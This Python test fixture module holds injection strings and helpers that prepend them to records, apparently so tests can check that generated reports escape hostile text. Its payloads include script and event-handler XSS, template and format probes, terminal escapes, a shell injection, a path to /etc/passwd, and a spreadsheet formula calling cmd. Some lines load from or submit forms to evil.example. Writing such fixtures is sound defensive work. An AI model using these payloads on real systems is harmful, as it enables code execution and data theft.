"""Hostile texts, and records in which they stand wherever an implementation, a harness or a file may put a text.

A page that runs any of them sets `window.owned`, which the tests with a browser look at.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any, Final

__all__ = ["FORBIDDEN", "HUGE", "LARGE", "TEXTS", "forbidden_in", "spoiled", "swollen"]

ESC: Final = "\x1b"
_RUN = "window.owned=1"

TEXTS: Final[Mapping[str, str]] = {
    "element": f"</td></pre></code><script>{_RUN}</script>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a style": f"</style></title><script>{_RUN}</script>",
    "event handler": f'"><img src=x onerror="{_RUN}"><svg onload={_RUN}>',
    "attribute": f"x\" onmouseover=\"{_RUN}\" onfocus='{_RUN}' autofocus tabindex=0 y='",
    "attribute without quotes": f"x onclick={_RUN} style=position:fixed;inset:0 `",
    "javascript link": f"javascript:{_RUN}",
    "javascript link in disguise": f" java\tscript\n:{_RUN}//https://issues.example/1",
    "data link": f"data:text/html,<script>{_RUN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe><base href=//evil.example/>",
    "fetch": "<link rel=stylesheet href=//evil.example/x.css><img src=https://evil.example/x.png>",
    "form": "<form action=https://evil.example><button id=main name=words>x</button></form>",
    "named as the frame": '"><a id=main name=words class=filter data-row=trouble>x</a>',
    "style": "</style><style>*{display:none!important;background:url(https://evil.example/x)}",
    "template": "{{7*7}}${7*7}{%raw%}{#x#}<%=7*7%>{{''.__class__.__mro__}}",
    "format": "{0} {mutant.__class__} %s %(x)s %n",
    "end of CDATA": "]]><!-- --><![CDATA[ ]]&gt; -->",
    "comment": "--!><!--><!-- x",
    "entity": "&#x3c;script&#x3e; &lt; &amp;lt; &unknown; &#0;",
    "controls": "".join(map(chr, range(0x20))) + "\x7f\x80\x85\x9b",
    "terminal colours": f"{ESC}[31mred{ESC}[0m{ESC}[2J{ESC}[1;1H",
    "terminal title": f"{ESC}]0;owned\x07{ESC}]8;;https://evil.example{ESC}\\link{ESC}]8;;{ESC}\\",
    "console markup": "[red]x[/red][/][link=https://evil.example]y[/link]\\[b] :smile:",
    "overwritten line": "fail\rpass\b\b\b\b",
    "right to left": "\u202egnp.exe\u2066\u2067\u202a\u200f\u061c",
    "without width": "a\u200bb\u200c\u200d\u2060\ufeff\u00ad\u034f",
    "line separators": "a\u2028b\u2029c\x0b\x0c\x1c\x1d\x1e\x85d",
    "tag characters": "\U000e0041\U000e0042\U000e007f",
    "not a character": "\ufffe\uffff\U0001ffff",
    "lone surrogate, escaped": "\\ud800 \\udfff",
    "lone surrogate": "\ud800 \udfff",
    "combining": "Z" + "\u0335\u0322\u034a" * 200,
    "formula": '=cmd|\'/c calc\'!A1+HYPERLINK("https://evil.example","x")',
    "formula of another sign": "@SUM(1+1)\t+1\t-1",
    "table of Markdown": "a | b |\n|---|---|\n| c | d",
    "back quotes": "`a``b```c\n```\n# heading\n",
    "link of Markdown": f"[x](javascript:{_RUN}) ![y](https://evil.example/x.png) <https://evil.example>",
    "HTML of Markdown": f"\n\n</details><script>{_RUN}</script>\n\n- [ ] item\n1. one\n> quote @somebody #1",
    "command of a workflow": "\n::error file=x::owned\n::set-output name=x::y\n::add-mask::a%0A::warning::b",
    "shell": "'; touch /tmp/owned; echo \"$(id)` \\",
    "path": "../../../../etc/passwd\x00.html?x=1&y=2#z",
    "address": "https://user:password@evil.example/%2e%2e/%ff?a=<b>&c='d'",
    "blanks": " \t \n ",
    "nothing": "",
}
"""Name → text. A report shows it, cut or in other signs; it never does what it says."""

HUGE: Final = "<megabyte & 'more'> " * 52_429
"""A text of a megabyte."""
LARGE: Final = HUGE[:100_000]
"""A text that is larger than all that a report may make of it."""

FORBIDDEN: Final = frozenset(
    [chr(code) for code in (*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
    + list("\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u200b")
)
"""Characters that no text for people holds: controls but the line feed, marks of direction, what ends a line unseen."""


def forbidden_in(text: str, allowed: Iterable[str] = "") -> list[str]:
    """The characters of a text that may not stand in it, as escapes."""
    return sorted(ascii(character) for character in set(text) & (FORBIDDEN - set(allowed)))


# Words of a record that its reader tells things apart by: a harness has no say in them.
STRUCTURE: Final = frozenset(
    {"event", "verdict", "level", "harm", "kind", "standing", "colour", "policy", "status", "gate"}
)
STRUCTURE_OF_MATRIX: Final = frozenset({"outcome", "standing", "level", "fate"})
STRUCTURE_OF_COMPATIBILITY: Final = frozenset({"verdict", "rests_on"})
STRUCTURE_OF_MIGRATION: Final = frozenset({"severity", "harm", "verdict", "assessed"})
STRUCTURE_OF_DIFF: Final = STRUCTURE | {"word", "role", "was_harm", "fail_on", "id"}
STRUCTURE_OF_COMPARISON: Final = STRUCTURE | {"class", "runner", "plan", "fail_on"}


def spoiled(value: Any, text: str, keep: frozenset[str] = STRUCTURE, name: str = "") -> Any:
    """The value with `text` before every text in it, names of members of objects included that are no fixed ones.

    The texts stay different, so that what was one thing is one thing still. Members named in `keep` stay as they are.
    """
    if isinstance(value, dict):
        free = name in _FREE_NAMES
        return {
            (text + member if free else member): spoiled(part, text, keep, member) for member, part in value.items()
        }
    if isinstance(value, (list, tuple)):
        return [spoiled(part, text, keep, name) for part in value]
    return text + value if isinstance(value, str) and name not in keep else value


_FREE_NAMES = frozenset({"options", "axes", "settings", "expected", "got", "after", "before", "others", "headers"})


def swollen(value: Any, member: str, name: str = "") -> Any:
    """The value with a megabyte before the first text of the members with this name."""
    if isinstance(value, dict):
        return {one: swollen(part, member, one) for one, part in value.items()}
    if isinstance(value, list):
        return [swollen(part, member, name) for part in value]
    return HUGE + value if isinstance(value, str) and name == member else value
